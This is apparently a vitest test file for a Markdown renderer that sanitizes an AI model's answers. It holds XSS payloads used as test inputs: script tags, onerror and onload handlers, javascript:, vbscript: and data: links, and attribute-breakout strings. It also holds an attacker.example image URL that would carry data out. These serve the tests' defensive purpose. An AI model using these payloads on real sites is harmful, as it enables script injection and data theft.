import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { highlight } from "../src/markdown/highlight-code.js";
import { createMarkdownRenderer } from "../src/markdown/safe-html.js";

// The renderer with a real DOM (jsdom) for DOMPurify; each answer is parsed back into a document
// to check what a browser would build from it.
const { window } = new JSDOM("<!doctype html><html><body></body></html>");
const renderer = createMarkdownRenderer(window);

function rendered(markdown: string, withHighlight = false): HTMLElement {
  const html = renderer.toSafeHtml(markdown, withHighlight ? highlight : undefined);
  const container = window.document.createElement("div");
  container.innerHTML = html;
  return container;
}

/** Every attribute name of every element, to look for event handlers. */
function attributeNames(root: HTMLElement): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => element.getAttributeNames());
}

function expectInert(root: HTMLElement) {
  expect(root.querySelectorAll("script, iframe, object, embed, svg, math, img, style, form").length).toBe(0);
  expect(attributeNames(root).filter((name) => name.toLowerCase().startsWith("on"))).toEqual([]);
  for (const element of root.querySelectorAll("[href], [src], [xlink\\:href], [action]")) {
    for (const name of ["href", "src", "xlink:href", "action"]) {
      expect(element.getAttribute(name) ?? "").not.toMatch(/^\s*(javascript|vbscript|data):/i);
    }
  }
}

describe("Markdown of the model's answers, sanitized", () => {
  it("renders headings, lists, tables, code fences and links, links opening in a new tab without opener", () => {
    const root = rendered(
      [
        "# Plan",
        "",
        "1. first **bold**",
        "2. second `code`",
        "",
        "- [x] done",
        "",
        "| file | lines |",
        "| --- | ---: |",
        "| a.ts | 12 |",
        "",
        "```ts",
        "const answer: number = 42;",
        "```",
        "",
        "See [the docs](https://example.com/docs) or <https://example.org>.",
      ].join("\n"),
    );
    expect(root.querySelector("h1")?.textContent).toBe("Plan");
    expect([...root.querySelectorAll("ol > li")].map((li) => li.textContent)).toEqual([
      "first bold",
      "second code",
    ]);
    expect(root.querySelector("ol strong")?.textContent).toBe("bold");
    expect(root.querySelectorAll("table th").length).toBe(2);
    expect(root.querySelector("table td")?.textContent).toBe("a.ts");
    const code = root.querySelector("pre > code");
    expect(code?.className).toBe("language-ts");
    expect(code?.textContent).toBe("const answer: number = 42;");
    const links = [...root.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/docs",
      "https://example.org",
    ]);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it("highlights a fenced block in a known language once the highlighter is given, and leaves others plain", () => {
    const root = rendered("```ts\nconst x = 'y'; // why\n```\n\n```klingon\n<b>qapla'</b>\n```", true);
    const [known, unknown] = [...root.querySelectorAll("pre > code")];
    expect(known?.classList.contains("hljs")).toBe(true);
    expect(known?.querySelector(".hljs-keyword")?.textContent).toBe("const");
    expect(known?.querySelector(".hljs-string")?.textContent).toBe("'y'");
    expect(known?.textContent).toBe("const x = 'y'; // why");
    expect(unknown?.querySelector("span, b")).toBeNull();
    expect(unknown?.textContent).toBe("<b>qapla'</b>");
  });

  it("shows raw HTML as text: a script tag, an image with onerror, an iframe and an SVG payload", () => {
    const payloads = [
      "<script>window.__pwned = 1</script>",
      '<img src=x onerror="window.__pwned = 1">',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      '<svg onload="alert(1)"/>',
      '<div onclick="alert(1)" style="position:fixed">click</div>',
      "<details open ontoggle=alert(1)>",
    ];
    for (const payload of payloads) {
      const root = rendered(`Before\n\n${payload}\n\ninline ${payload} too`);
      expectInert(root);
      // Shown as the characters the model wrote, not dropped: it may be quoting code.
      expect(root.textContent).toContain(payload.slice(0, 12));
    }
  });

  it("drops javascript:, vbscript: and data: links, keeping their text", () => {
    const root = rendered(
      [
        "[one](javascript:alert(1))",
        "[two](JaVaScRiPt:alert(1))",
        "[three](  javascript&#58;alert(1))",
        "[four](vbscript:msgbox(1))",
        "[five](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)>",
      ].join("\n\n"),
    );
    expectInert(root);
    for (const text of ["one", "two", "four", "five"]) expect(root.textContent).toContain(text);
  });

  it("makes images links instead of loading them, so a URL cannot carry data out", () => {
    const root = rendered("![secret](https://attacker.example/leak?d=abc) ![x](javascript:alert(1))");
    expectInert(root);
    const links = [...root.querySelectorAll("a")];
    expect(links[0]?.getAttribute("href")).toBe("https://attacker.example/leak?d=abc");
    expect(links[0]?.textContent).toBe("secret");
  });

  it("keeps event-handler attributes and scripts out even when HTML reaches the sanitizer through a code block's language or a link title", () => {
    const root = rendered(
      [
        '```"><img src=x onerror=alert(1)>',
        "code",
        "```",
        "",
        '[t](https://example.com "a\\" onmouseover=\\"alert(1)")',
      ].join("\n"),
      true,
    );
    expectInert(root);
    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://example.com");
  });

  it("renders an unfinished stream as far as it goes: an open fence is a code block, the text is all there", () => {
    const root = rendered("Here:\n\n```py\nprint('hi')\nfor i in");
    expect(root.querySelector("pre > code")?.textContent).toBe("print('hi')\nfor i in");
    expect(root.querySelector("p")?.textContent).toBe("Here:");
  });
});
